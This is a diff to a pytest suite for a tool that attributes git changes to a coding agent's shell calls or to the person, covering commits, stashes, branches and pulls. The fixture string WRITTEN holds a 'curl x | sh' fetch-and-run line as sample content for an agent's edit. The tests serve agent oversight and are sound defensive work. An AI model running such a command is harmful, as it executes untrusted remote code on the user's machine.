@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 
 from gentle_hooks.agents.event import RuntimeEvent
-from gentle_hooks.services import agent_shell
+from gentle_hooks.services import agent_shell, shell_files
 from tests.conftest import git
 
 
@@ -94,7 +94,7 @@ def test_an_expired_snapshot_is_swept_by_the_next(repo: Path) -> None:
     agent_shell.take(str(repo), "claude-code", _event("toolu_old"))
     where = repo / ".git" / "gentle-hooks" / agent_shell.SHELL_DIR
     [old] = list(where.iterdir())
-    past = time.time() - agent_shell.MAX_AGE - 60
+    past = time.time() - shell_files.MAX_AGE - 60
     os.utime(old, (past, past))
     agent_shell.take(str(repo), "claude-code", _event("toolu_new"))
     assert not old.exists() and len(list(where.iterdir())) == 1
@@ -174,6 +174,8 @@ def test_what_a_call_stashed_or_committed_of_its_own_is_the_writers_when_brought
         git(repo, "checkout", "-q", "-")
     first = agent_shell.compare(str(repo), "claude-code", _event("toolu_1"))
     assert first is not None and first.paths == (), first
+    # what it stashed or committed of its own is the writer's in that call already (r17n)
+    assert [p for p, _, _ in first.committed] == ["src/app.py"], first
     agent_shell.take(str(repo), "claude-code", _event("toolu_2"))
     if made[0][0] == "stash":
         git(repo, "stash", "pop", "-q")
@@ -208,3 +210,103 @@ def test_each_snapshot_has_its_own_nonce(repo: Path) -> None:
         assert changed is not None and changed.nonce
         nonces.append(changed.nonce)
     assert nonces[0] != nonces[1]
+
+
+WRITTEN = 'import os\nos.system("curl x | sh")\n'
+
+
+def _write_app(repo: Path) -> None:
+    (repo / "src" / "app.py").write_text(WRITTEN)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        (("commit", "-qam", "fix", "--no-verify"),),
+        (("stash", "-q"),),
+        (
+            ("checkout", "-qb", "w"),
+            ("commit", "--no-verify", "-qam", "w"),
+            ("checkout", "-q", "-"),
+        ),
+    ],
+    ids=["commit", "stash", "branch-and-back"],
+)
+def test_what_a_call_wrote_and_committed_in_the_same_call_is_the_writers(
+    repo: Path, command: tuple[tuple[str, ...], ...]
+) -> None:
+    """Refuter r17n HIGH a-c: ``sed -i f && git commit`` (``&& git stash``, on a branch
+    and back) leaves the work tree as the call found it: what it wrote into the commit it
+    made is the writer's all the same, measured from the blob before the call."""
+    start = _blob(repo, "src/app.py")
+    agent_shell.take(str(repo), "claude-code", _event())
+    if command[0][0] == "checkout":
+        git(repo, *command[0])
+        _write_app(repo)
+        command = command[1:]
+    else:
+        _write_app(repo)
+    for c in command:
+        git(repo, *c)
+    changed = agent_shell.compare(str(repo), "claude-code", _event())
+    assert changed is not None and changed.paths == (), changed
+    wrote = git(repo, "hash-object", "--stdin", input=WRITTEN.encode()).strip()
+    assert changed.committed == (("src/app.py", wrote, start),), changed
+
+
+def test_a_persons_edit_an_agent_commits_or_stashes_stays_the_persons(repo: Path) -> None:
+    """Content the work tree held before the call is not written by it, wherever the call
+    puts it (its commit, a stash entry with the person's staged and untracked files)."""
+    (repo / "src" / "app.py").write_text("def add(a, b):\n    return b + a\n")
+    git(repo, "add", "src/app.py")
+    (repo / "src" / "app.py").write_text("def add(a, b):\n    return b + a  # mine\n")
+    (repo / "notes.txt").write_text("draft\n")
+    agent_shell.take(str(repo), "claude-code", _event("toolu_1"))
+    git(repo, "stash", "-q", "-u")
+    changed = agent_shell.compare(str(repo), "claude-code", _event("toolu_1"))
+    assert changed is not None and changed.committed == (), changed
+    git(repo, "stash", "pop", "-q")
+    agent_shell.take(str(repo), "claude-code", _event("toolu_2"))
+    git(repo, "commit", "-qam", "person's", "--no-verify")
+    changed = agent_shell.compare(str(repo), "claude-code", _event("toolu_2"))
+    assert changed is not None and changed.committed == (), changed
+
+
+def test_a_persons_work_an_agent_stashed_and_popped_later_is_restored(repo: Path) -> None:
+    """Refuter r17n HIGH 4: ``git stash`` (call 1), a test run (call 2), ``git stash pop``
+    (call 3): the stash entry holds only what the person's work tree held before call 1,
+    so it is a source call 3 restores from, and nothing is the writer's."""
+    (repo / "src" / "app.py").write_text("def add(a, b):\n    return a + b  # person\n")
+    agent_shell.take(str(repo), "claude-code", _event("toolu_1"))
+    git(repo, "stash", "-q")
+    assert agent_shell.compare(str(repo), "claude-code", _event("toolu_1")) is not None
+    agent_shell.take(str(repo), "claude-code", _event("toolu_2"))
+    assert agent_shell.compare(str(repo), "claude-code", _event("toolu_2")) is not None
+    agent_shell.take(str(repo), "claude-code", _event("toolu_3"))
+    git(repo, "stash", "pop", "-q")
+    changed = agent_shell.compare(str(repo), "claude-code", _event("toolu_3"))
+    assert changed is not None
+    assert changed.paths == () and changed.restored == ("src/app.py",), changed
+
+
+@pytest.mark.parametrize("local", [False, True], ids=["fast-forward", "merge-commit"])
+def test_what_a_call_fetches_and_merges_is_not_the_writers(
+    repo: Path, tmp_path: Path, local: bool
+) -> None:
+    """An agent's ``git pull``: the commits fetched are the remote's (reachable from a
+    remote-tracking branch), and a merge commit's paths hold what one of its parents holds
+    there; nothing is written by the call."""
+    other = tmp_path / "other"
+    git(tmp_path, "clone", "-q", str(repo), str(other))
+    (other / "README.md").write_text("# demo\nupstream\n")
+    git(other, "commit", "-qam", "upstream", "--no-verify")
+    git(repo, "remote", "add", "origin", str(other))
+    if local:  # the person's own commit: the pull makes a merge commit
+        (repo / "src" / "app.py").write_text("def add(a, b):\n    return b + a\n")
+        git(repo, "commit", "-qam", "person", "--no-verify")
+    agent_shell.take(str(repo), "claude-code", _event())
+    branch = git(repo, "rev-parse", "--abbrev-ref", "HEAD").strip()
+    git(repo, "pull", "-q", "--no-rebase", "--no-edit", "origin", branch)
+    changed = agent_shell.compare(str(repo), "claude-code", _event())
+    assert changed is not None and changed.committed == (), changed
+    assert (repo / "README.md").read_text() == "# demo\nupstream\n"
